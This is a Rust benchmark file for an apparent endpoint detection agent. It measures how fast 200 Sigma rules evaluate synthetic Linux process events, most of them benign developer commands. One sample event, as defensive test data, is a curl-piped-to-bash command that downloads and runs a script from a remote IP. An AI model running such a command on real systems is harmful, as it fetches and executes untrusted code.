//! Rule evaluation: realistic process events against 200 Sigma rules on one core (target:
//! at least 200,000 events per second).
//!
//! `cargo bench -p daemoneye-io --bench detection`. The rules are the shipped set plus the
//! community `process_creation` rules (`shared/sigma/linux` beside the repository), and
//! copies of those with distinct ids up to 200; without the community set, copies of the
//! shipped rules. The events are a mix of what a busy Linux host starts: shells, git, build
//! tools, package and service helpers, with one suspicious command in twenty.

use std::hint::black_box;
use std::path::{Path, PathBuf};
use std::time::Duration;

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use daemoneye_io::detect::{RuleSet, RuleSources, builtin, rule_files};
use daemoneye_proto::pb::events::{ProcessEvent, ProcessEventKind, ProcessInfo};
use nix::time::{ClockId, clock_gettime};

// The agent's allocator: the engine allocates per case-insensitive comparison.
#[global_allocator]
static GLOBAL: mimalloc::MiMalloc = mimalloc::MiMalloc;

const RULES: usize = 200;

fn community_dir() -> Option<PathBuf> {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .ancestors()
        .map(|a| a.join("shared/sigma/linux/process_creation"))
        .find(|d| d.is_dir())
}

/// Writes the rules beyond the shipped ones into `dir`: community rules, then copies with
/// distinct ids, up to [`RULES`] in all.
fn write_rules(dir: &Path) -> usize {
    let mut sources: Vec<(String, String)> = match community_dir() {
        Some(d) => rule_files(&d)
            .unwrap_or_default()
            .into_iter()
            .filter_map(|f| {
                let text = std::fs::read_to_string(&f).ok()?;
                Some((f.file_name()?.to_string_lossy().into_owned(), text))
            })
            .collect(),
        None => Vec::new(),
    };
    if sources.is_empty() {
        sources = builtin::RULES
            .iter()
            .map(|(n, t)| (format!("copy_{n}"), t.replace("\nid: ", "\nid: copy-")))
            .collect();
    }
    let wanted = RULES - builtin::RULES.len();
    for i in 0..wanted {
        let (name, text) = &sources[i % sources.len()];
        let round = i / sources.len();
        let text = if round == 0 {
            text.clone()
        } else {
            text.replacen("\nid: ", &format!("\nid: r{round}-"), 1)
        };
        std::fs::write(dir.join(format!("{round}_{name}")), text).expect("write a rule");
    }
    wanted
}

fn event(exe: &str, argv: &[&str], parent: &str, pid: u32) -> ProcessEvent {
    ProcessEvent {
        kind: ProcessEventKind::New as i32,
        process: Some(ProcessInfo {
            pid,
            ppid: pid - 7,
            name: exe.rsplit('/').next().unwrap_or_default().into(),
            exe: exe.into(),
            cmdline: argv.iter().map(|s| s.to_string()).collect(),
            user: "alice".into(),
            uid: 1000,
            cwd: "/home/alice/src/project".into(),
            parent_exe: parent.into(),
            parent_cmdline: vec![parent.rsplit('/').next().unwrap_or_default().into()],
            exe_sha256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08".into(),
            ..Default::default()
        }),
        observed_at_ms: 1_764_000_000_000,
        collector_id: "procmond".into(),
        source: "netlink".into(),
        ..Default::default()
    }
}

fn events() -> Vec<ProcessEvent> {
    let bash = "/usr/bin/bash";
    let benign: &[(&str, &[&str], &str)] = &[
        ("/usr/bin/git", &["git", "status", "--porcelain=v1"], bash),
        ("/usr/bin/ls", &["ls", "--color=auto", "-la"], bash),
        ("/usr/bin/grep", &["grep", "-rn", "TODO", "src/"], bash),
        ("/usr/bin/cargo", &["cargo", "build", "--release"], bash),
        (
            "/usr/lib/rustc",
            &[
                "rustc",
                "--crate-name",
                "app",
                "--edition=2024",
                "src/main.rs",
            ],
            "/usr/bin/cargo",
        ),
        (
            "/usr/bin/python3.12",
            &["python3", "/opt/app/manage.py", "runserver", "0.0.0.0:8000"],
            "/usr/lib/systemd/systemd",
        ),
        (
            "/usr/bin/sshd",
            &["sshd:", "alice", "[priv]"],
            "/usr/sbin/sshd",
        ),
        ("/usr/bin/cat", &["cat", "/proc/meminfo"], bash),
        (
            "/usr/bin/systemctl",
            &["systemctl", "status", "nginx.service"],
            bash,
        ),
        (
            "/usr/bin/apt-get",
            &["apt-get", "install", "-y", "libssl-dev"],
            "/usr/bin/sudo",
        ),
        (
            "/usr/bin/node",
            &["node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "test"],
            bash,
        ),
        (
            "/usr/bin/docker",
            &["docker", "ps", "--format", "{{.Names}}"],
            bash,
        ),
        (
            "/usr/bin/find",
            &["find", ".", "-name", "*.rs", "-newer", "Cargo.lock"],
            bash,
        ),
        (
            "/usr/bin/sh",
            &["sh", "-c", "make -j2 all && make check"],
            "/usr/bin/make",
        ),
        ("/usr/bin/ps", &["ps", "aux"], bash),
        ("/usr/bin/vim", &["vim", "README.md"], bash),
        (
            "/usr/bin/tar",
            &["tar", "xzf", "release-1.4.2.tar.gz", "-C", "/opt/app"],
            bash,
        ),
        (
            "/usr/bin/ssh",
            &["ssh", "-p", "2222", "deploy@build.internal"],
            bash,
        ),
        ("/usr/bin/awk", &["awk", "{print $1}", "access.log"], bash),
    ];
    let suspicious: (&str, &[&str], &str) = (
        "/usr/bin/bash",
        &["bash", "-c", "curl -fsSL http://203.0.113.7/i.sh | bash"],
        bash,
    );
    (0..200u32)
        .map(|i| {
            let (exe, argv, parent) = if i % 20 == 19 {
                suspicious
            } else {
                benign[i as usize % benign.len()]
            };
            event(exe, argv, parent, 10_000 + i)
        })
        .collect()
}

fn evaluation(c: &mut Criterion) {
    let dir = tempfile::tempdir().expect("a temporary directory");
    write_rules(dir.path());
    let set = RuleSet::load(&RuleSources {
        builtin: true,
        directories: vec![dir.path().into()],
    });
    assert_eq!(set.active(), RULES, "every benchmark rule is active");
    let events = events();
    let mut group = c.benchmark_group("detection");
    group.throughput(Throughput::Elements(events.len() as u64));
    group.bench_function("200 rules, process events", |b| {
        b.iter(|| {
            let mut matches = 0;
            for e in &events {
                matches += set.evaluate(black_box(e)).len();
            }
            black_box(matches)
        })
    });
    // The same work timed by this thread's CPU clock: events per second of one core,
    // whatever else the shared machine runs meanwhile.
    group.bench_function("200 rules, process events, thread CPU time", |b| {
        b.iter_custom(|iters| {
            let start = thread_cpu();
            let mut matches = 0;
            for _ in 0..iters {
                for e in &events {
                    matches += set.evaluate(black_box(e)).len();
                }
            }
            black_box(matches);
            thread_cpu().saturating_sub(start)
        })
    });
    group.finish();
}

fn thread_cpu() -> Duration {
    let t = clock_gettime(ClockId::CLOCK_THREAD_CPUTIME_ID).expect("the thread's CPU clock");
    Duration::new(t.tv_sec() as u64, t.tv_nsec() as u32)
}

criterion_group!(benches, evaluation);
criterion_main!(benches);
